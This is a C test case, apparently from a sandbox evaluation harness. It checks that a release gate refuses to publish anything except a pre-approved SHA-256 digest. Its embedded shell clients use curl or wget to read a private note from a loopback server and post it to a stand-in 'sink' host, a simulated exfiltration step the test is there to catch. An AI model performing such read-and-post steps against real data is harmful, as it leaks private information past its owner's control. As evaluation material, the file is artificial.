/* HB-12: a release gate on output digests.
 *
 * Fixture (outside every sandbox): a private note on the host's loopback
 * (receivers/publish.c, 127.0.0.1:18986, "note.test" by the policy's
 * network.resolve, a rule marked "private") whose answer holds a fresh
 * marker, and a public sink (127.0.0.1:18987, "sink.test", a rule with
 * "publish") that keeps every request whole. The approved output is a
 * fixed sanitized summary; its SHA-256 is approved for
 * sink.test:18987/publish before the run, by an approvals file the
 * harness writes (paddock run --approvals, the file the workload user's,
 * 0600). The sandboxed client (curl): reads the note, tries to publish
 * what it read, then publishes the sanitized summary. Evidence: what the
 * sink kept (the marker in a body, the approved digest, anything else),
 * the note's log, and the admissions log read back from the record
 * (verified by paddock), joined with the sink on the body's digest; the
 * marker is searched in the admissions log, the record and paddock's
 * output. Never the workload's output.
 *
 * Arms: enforced (the read taints, the sink holds the marker's body
 * until network.hold and refuses it; the approved body is released once);
 * weakened:gate-off (paddock's --weaken gate-off: the sink admits every
 * body, so the marker is published: must FAIL); docker and
 * docker:host-net, the references: busybox wget to the loopback literals;
 * --network none reaches nothing (control FAILs), --network host
 * publishes the marker (enforcement FAILs). */
#include "../../lib/case.h"
#include "../../observers/observe.h"
#include "../../receivers/publish.h"
#include "hb12_grade.h"
#include "../../../policy/sha256.h"

#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <unistd.h>

#define PORT_NOTE      18986
#define PORT_SINK      18987
#define SANITIZED_LINE "summary: 2 items reviewed, nothing private"
#define SANITIZED      SANITIZED_LINE "\n" /* what printf writes: the approved body */

static const struct case_arm arms[] = {
    {.name = "enforced"}, {.name = "weakened:gate-off"},
    {.name = "docker"},	  {.name = "docker:host-net"},
    {.name = NULL},
};

/* $1: the sanitized output (the note's text never enters the script). */
#define CLIENTS                                                         \
	"c='curl -s -m 15 -o /dev/null'\n"                              \
	"m=$(curl -s -m 5 http://note.test:18986/note)\n"               \
	"$c --data-binary \"$m\" http://sink.test:18987/publish\n"      \
	"printf '%s\\n' \"$1\" > /tmp/out; $c --data-binary @/tmp/out " \
	"http://sink.test:18987/publish\n"                              \
	"exit 0\n"
#define BUSYBOX_CLIENTS                                              \
	"w='timeout 5 wget -q -O /dev/null'\n"                       \
	"m=$(timeout 5 wget -q -O - http://127.0.0.1:18986/note)\n"  \
	"$w --post-data \"$m\" http://127.0.0.1:18987/publish\n"     \
	"printf '%s\\n' \"$1\" > /tmp/out; $w --post-file /tmp/out " \
	"http://127.0.0.1:18987/publish\n"                           \
	"exit 0\n"

struct hb12 {
	struct publish_rx *note, *sink;
	char marker[64], answer[128], approved[65], approvals[PATH_MAX + 16];
	struct release_obs o;
};

static void hex_digest(const char *s, size_t n, char out[65])
{
	unsigned char d[SHA256_DIGEST_LEN];

	sha256(s, n, d);
	sha256_hex(d, out);
}

static int setup(struct case_run *cr, struct err *why)
{
	struct hb12 *h = cr->priv;
	char line[256];
	int rc;

	snprintf(h->marker, sizeof(h->marker), "hb12-private-%d%lx", (int)getpid(), (long)random());
	snprintf(h->answer, sizeof(h->answer), "note: %s", h->marker);
	hex_digest(SANITIZED, strlen(SANITIZED), h->approved);
	/* Approved before the run, by the owner: the workload user's file. */
	snprintf(h->approvals, sizeof(h->approvals), "%s/approvals", cr->fx.dir);
	snprintf(line, sizeof(line), "sha256:%s sink.test:%d/publish\n", h->approved, PORT_SINK);
	if (fixture_write(cr->ctx, h->approvals, line, 0600) < 0)
		return err_set(why, EIO, "cannot write the approvals file %s", h->approvals);
	rc = publish_start(&h->note, PORT_NOTE, h->answer);
	if (rc < 0)
		return err_sys(why, rc, "the private note could not listen on 127.0.0.1:%d",
			       PORT_NOTE);
	rc = publish_start(&h->sink, PORT_SINK, "published\n");
	if (rc < 0)
		return err_sys(why, rc, "the sink could not listen on 127.0.0.1:%d", PORT_SINK);
	return 0;
}

static size_t probes(struct publish_rx *rx)
{
	struct publish_req q;
	size_t n = 0;

	for (size_t i = 0; publish_get(rx, i, &q); i++)
		n += strcmp(q.path, "/probe") == 0;
	return n;
}

/* The harness's own request to each receiver: both must keep it. */
static bool prove(struct hb12 *h, size_t want)
{
	static const char req[] = "GET /probe HTTP/1.1\r\nHost: h\r\nContent-Length: 0\r\n\r\n";
	struct publish_rx *rx[2] = {h->note, h->sink};
	int port[2] = {PORT_NOTE, PORT_SINK};

	for (int k = 0; k < 2; k++) {
		char b[256];

		(void)observe_request_tcp(port[k], req, 2000, b, sizeof(b));
		for (int t = 0; t < 50 && probes(rx[k]) < want; t++)
			sleep_ms(10);
		if (probes(rx[k]) < want)
			return false;
	}
	return true;
}

/* Lines of the log with field (a "released" decision, an "approval"
 * event) naming digest. */
static size_t lines_with(const char *log, const char *field, const char *digest)
{
	char want[80];
	size_t n = 0;

	snprintf(want, sizeof(want), "\"digest\":\"%s\"", digest);
	for (const char *l = log; *l;) {
		const char *e = strchr(l, '\n');
		size_t len = e ? (size_t)(e - l) : strlen(l);
		char *line = strndup(l, len);

		n += line && strstr(line, field) && strstr(line, want);
		free(line);
		if (!e)
			break;
		l = e + 1;
	}
	return n;
}

static bool file_has(const char *path, const char *text)
{
	static char buf[1 << 20];
	int n = read_file(path, buf, sizeof(buf) - 1);

	if (n < 0)
		return false;
	buf[n] = '\0';
	return strstr(buf, text) != NULL;
}

static void sink_evidence(struct case_run *cr, struct hb12 *h, const char *log)
{
	struct publish_req q;

	for (size_t i = 0; publish_get(h->sink, i, &q); i++) {
		char d[65];

		if (!strcmp(q.path, "/probe") || q.len == 0)
			continue;
		h->o.published++;
		hex_digest(q.body, q.len, d);
		if (strstr(q.body, h->marker))
			h->o.with_marker++;
		else if (!strcmp(d, h->approved))
			h->o.approved++;
		else
			h->o.other++;
		if (log && lines_with(log, "\"decision\":\"released\"", d))
			h->o.joined++;
	}
	for (size_t i = 0; publish_get(h->note, i, &q); i++)
		h->o.note_read |= !strcmp(q.method, "GET") && !strcmp(q.path, "/note");
	result_evidence(cr->r, "sink",
			"kept %zu published body(ies): %zu with the private marker, %zu the "
			"approved sha256:%.12s..., %zu other; the note %s",
			h->o.published, h->o.with_marker, h->o.approved, h->approved, h->o.other,
			h->o.note_read ? "was read" : "was not read");
}

/* The admissions log the record names: verified, the released and
 * refused-unapproved decisions, and the marker searched in it, in the
 * record and in paddock's output. */
static const char *admissions(struct case_run *cr, struct hb12 *h, const char *rec)
{
	static char log[1 << 20];
	char path[512];
	int n = admissions_read(rec, path, sizeof(path), &h->o.log_verified, log, sizeof(log));

	if (n == -ENOENT) {
		result_evidence(cr->r, "admissions", "the record names no admissions log");
		return NULL;
	}
	if (n < 0) {
		result_evidence(cr->r, "admissions", "cannot read %s", path);
		return NULL;
	}
	h->o.log_read = true;
	h->o.released = lines_with(log, "\"decision\":\"released\"", h->approved);
	h->o.approvals = lines_with(log, "\"event\":\"approval\"", h->approved);
	h->o.refused = admissions_count(log, "refused-unapproved", NULL);
	h->o.marker_in_logs = (strstr(log, h->marker) != NULL) + file_has(rec, h->marker) +
			      file_has(cr->log, h->marker);
	result_evidence(cr->r, "admissions",
			"log %s (%s): %zu approval(s) and %zu release(s) of the approved digest, "
			"%zu refused-unapproved, %zu held; the private marker in %zu of the log, "
			"the record and paddock's output",
			path, h->o.log_verified ? "complete" : "not verified", h->o.approvals,
			h->o.released, h->o.refused, admissions_count(log, "held", NULL),
			h->o.marker_in_logs);
	return log;
}

static void run(struct case_run *cr)
{
	struct hb12 *h = cr->priv;
	struct result *r = cr->r;
	char rec[PATH_MAX + 64];
	const char *log = NULL;
	struct argv_buf a;
	int status = -1;
	bool before;

	snprintf(rec, sizeof(rec), "%s/record.json", cr->records);
	before = prove(h, 1);
	case_argv_arm(cr, &a, &(struct arm_start){.ws = cr->fx.dir, .record = rec});
	if (r->kind != ARM_DOCKER && a.n && strcmp(a.v[a.n - 1], "--") == 0) {
		/* The approvals, given before the run (before the "--"). */
		a.v[--a.n] = NULL;
		argv_words(&a, "--approvals", h->approvals, "--", NULL);
	}
	argv_words(&a, "sh", "-c", r->kind == ARM_DOCKER ? BUSYBOX_CLIENTS : CLIENTS, "sh",
		   SANITIZED_LINE, NULL);
	if (case_run_vec(cr, &a, cr->log, 120000, &status) < 0) {
		result_not_executed(r, "could not start the workload");
		return;
	}
	h->o.proven = before && prove(h, 2);
	h->o.mediated = r->kind != ARM_DOCKER;
	if (h->o.mediated) {
		case_record(cr, rec, NULL);
		log = admissions(cr, h, rec);
		result_evidence(r, "approvals",
				"approved before the run: sha256:%s for sink.test:%d/publish "
				"(--approvals %s)",
				h->approved, PORT_SINK, h->approvals);
	}
	sink_evidence(cr, h, log);
	result_evidence(r, "exit", "workload status %d (not evidence)", status);
	grade_release(&h->o, r->v);
}

static void teardown(struct case_run *cr)
{
	struct hb12 *h = cr->priv;

	publish_stop(h->note);
	publish_stop(h->sink);
}

const struct eval_case hb12_case = {
    .id = "HB-12",
    .title = "A release gate on output digests",
    .policy = "cases/network/hb12_policy.json",
    .arms = arms,
    .fixture = CASE_DIR | CASE_RECORDS,
    .priv_size = sizeof(struct hb12),
    .setup = setup,
    .run = run,
    .teardown = teardown,
};
